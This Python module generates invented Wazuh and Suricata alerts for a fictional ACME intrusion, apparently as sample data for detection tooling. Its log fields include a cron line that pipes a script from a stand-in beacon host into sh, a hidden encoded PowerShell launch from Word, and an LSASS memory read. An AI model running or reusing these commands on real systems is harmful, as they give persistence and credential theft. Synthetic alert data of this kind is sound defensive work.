"""ACME's day: a guessed password, and what its owner did with it."""

from __future__ import annotations

from collections.abc import Iterator

from entrypoints.samples.day import ACME, ATTACKER, BEACON, Day, Document, invented_md5, invented_sha256


class AcmeDay:
    """Tells what ACME's tools report.

    Args:
        day: The day.
    """

    def __init__(self, day: Day) -> None:
        self._day = day

    def wazuh(self) -> Iterator[Document]:
        """Tells what Wazuh 4 reports."""
        yield from self._ssh_break_in()
        yield from self._workstation()

    def _ssh_break_in(self) -> Iterator[Document]:
        for step in range(24):
            yield self._day.wazuh_alert(
                ACME,
                ("004", "web-01", "192.0.2.10"),
                300 - step,
                {
                    "id": "5712",
                    "level": 10,
                    "description": "sshd: brute force trying to get access to the system.",
                    "groups": ["syslog", "sshd", "authentication_failures"],
                    "mitre": {"id": ["T1110"]},
                },
                {"srcip": ATTACKER, "srcuser": ("root", "admin", "deploy")[step % 3], "srcport": str(40_000 + step)},
                full_log=f"sshd[{9000 + step}]: Failed password for root from {ATTACKER} port {40_000 + step} ssh2",
            )
        yield self._day.wazuh_alert(
            ACME,
            ("004", "web-01", "192.0.2.10"),
            270,
            {
                "id": "40112",
                "level": 12,
                "description": "Multiple authentication failures followed by a success.",
                "groups": ["syslog", "attacks", "authentication_success"],
                "mitre": {"id": ["T1078", "T1110"]},
            },
            {"srcip": ATTACKER, "dstuser": "deploy"},
            full_log=f"sshd[9107]: Accepted password for deploy from {ATTACKER} port 40811 ssh2",
        )
        yield self._day.wazuh_alert(
            ACME,
            ("004", "web-01", "192.0.2.10"),
            262,
            {
                "id": "100210",
                "level": 13,
                "description": "New cron job downloads and runs a script from the internet.",
                "groups": ["syscheck", "persistence"],
                "mitre": {"id": ["T1053.003", "T1105"]},
            },
            {"url": f"http://{BEACON}/i.sh", "dstuser": "deploy"},
            syscheck={
                "event": "added",
                "path": "/etc/cron.d/logrotate2",
                "sha256_after": invented_sha256("cron"),
                "md5_after": invented_md5("cron"),
                "uname_after": "deploy",
            },
            full_log=f"* * * * * deploy curl -s http://{BEACON}/i.sh | sh",
        )

    def _workstation(self) -> Iterator[Document]:
        for step, host in enumerate(("WS-FIN-07", "ws-fin-07.corp.acme.example", "WS-FIN-11")):
            agent = ("011" if host.lower().startswith("ws-fin-07") else "015", host, f"192.0.2.{40 + step}")
            image = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
            event = {
                "image": image,
                "parentImage": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                "commandLine": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
                "user": r"ACME\j.doe",
                "hashes": f"MD5={invented_md5(image)},SHA256={invented_sha256(image)}",
            }
            yield self._day.wazuh_alert(
                ACME,
                agent,
                190 - 25 * step,
                {
                    "id": "92057",
                    "level": 12,
                    "description": "Word started PowerShell with an encoded command.",
                    "groups": ["sysmon", "sysmon_event1"],
                    "mitre": {"id": ["T1059.001", "T1566.001"]},
                },
                {"win": {"system": {"eventID": "1", "computer": host}, "eventdata": event}},
            )
        yield self._day.wazuh_alert(
            ACME,
            ("011", "WS-FIN-07", "192.0.2.40"),
            150,
            {
                "id": "92900",
                "level": 15,
                "description": "A process read the memory of lsass.exe.",
                "groups": ["sysmon", "sysmon_event_10"],
                "mitre": {"id": ["T1003.001"]},
            },
            {
                "win": {
                    "system": {"eventID": "10", "computer": "WS-FIN-07"},
                    "eventdata": {
                        "sourceImage": r"C:\Users\Public\svc.exe",
                        "targetUserName": "SYSTEM",
                        "targetImage": r"C:\Windows\System32\lsass.exe",
                        "user": r"ACME\j.doe",
                        "hashes": f"MD5={invented_md5('svc')},SHA256={invented_sha256('svc')}",
                    },
                }
            },
        )

    def suricata(self) -> Iterator[Document]:
        """Tells what Suricata writes to eve.json."""
        for step in range(14):
            yield {
                "timestamp": self._day.time(260 - 3 * step),
                "flow_id": 1_000_000 + step,
                "event_type": "alert",
                "src_ip": "192.0.2.10",
                "src_port": 51_000 + step,
                "dest_ip": BEACON,
                "dest_port": 443,
                "proto": "TCP",
                "host": "sensor-acme-1",
                "customer_code": ACME,
                "tls": {"sni": "cdn-sync.example.org"},
                "alert": {
                    "action": "allowed",
                    "gid": 1,
                    "signature_id": 2_900_001,
                    "rev": 3,
                    "severity": 1,
                    "category": "Malware Command and Control Activity Detected",
                    "signature": "TLS beacon to a host seen in an earlier intrusion",
                },
            }
